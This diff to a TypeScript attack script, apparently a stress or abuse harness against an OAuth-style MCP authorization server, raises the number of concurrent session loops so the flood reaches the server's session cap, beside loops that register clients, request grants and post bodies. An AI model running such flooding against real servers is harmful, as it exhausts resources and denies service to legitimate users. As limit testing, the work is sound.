@@ -13,8 +13,9 @@ import { parentMessages, reply } from './lib.js';
 
 /** A redirect host the default map accepts (claude.ai signs in as the claude channel). */
 const REDIRECT = 'https://claude.ai/api/mcp/auth_callback';
-/** Concurrent loops per activity. */
+/** Concurrent loops per activity; sessions get more, so that the flood reaches the server's session cap. */
 const LOOPS = 2;
+const SESSION_LOOPS = 6;
 
 /** The SKU each grant asks to hold, from the start message. */
 let sku = '';
@@ -180,12 +181,14 @@ async function attack(): Promise<void> {
     }),
   );
   if (form.status !== 200) throw new Error(`the consent page answered ${form.status}`);
-  const loops = Array.from({ length: LOOPS }, (_, worker) => [
-    registerLoop(),
-    grantLoop(clientId, form, pkce.verifier),
-    sessionLoop(worker),
-    bodyLoop(worker),
-  ]).flat();
+  const loops = [
+    ...Array.from({ length: LOOPS }, (_, worker) => [
+      registerLoop(),
+      grantLoop(clientId, form, pkce.verifier),
+      bodyLoop(worker),
+    ]).flat(),
+    ...Array.from({ length: SESSION_LOOPS }, (_, worker) => sessionLoop(worker)),
+  ];
   await Promise.all(loops);
 }
 
